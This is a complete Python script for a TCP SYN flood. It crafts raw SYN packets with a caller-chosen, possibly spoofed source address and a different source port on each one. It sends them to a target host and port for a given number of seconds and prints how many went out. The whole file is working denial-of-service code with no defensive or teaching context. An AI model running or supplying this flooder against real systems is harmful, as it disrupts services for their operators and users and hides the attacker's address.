"""Sends TCP SYNs from SOURCE to TARGET PORT for SECONDS, each from another port; prints how many."""
import os, socket, struct, sys, time

source, target, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
addresses = socket.inet_aton(source) + socket.inet_aton(target)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(sport):
    head = struct.pack("!HHIIBBH", sport, port, sport, 0, 0x50, 2, 1024)
    return head + struct.pack("!HH", checksum(addresses + struct.pack("!HH", 6, 20) + head), 0)


packets = [syn(sport) for sport in range(1024, 65536)]
sent = 0
end = time.monotonic() + seconds
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as it:
    while time.monotonic() < end:
        for packet in packets[sent % len(packets) :][:1000]:
            try:
                it.sendto(packet, (target, 0))
            except OSError:
                pass
            sent += 1
print(sent)
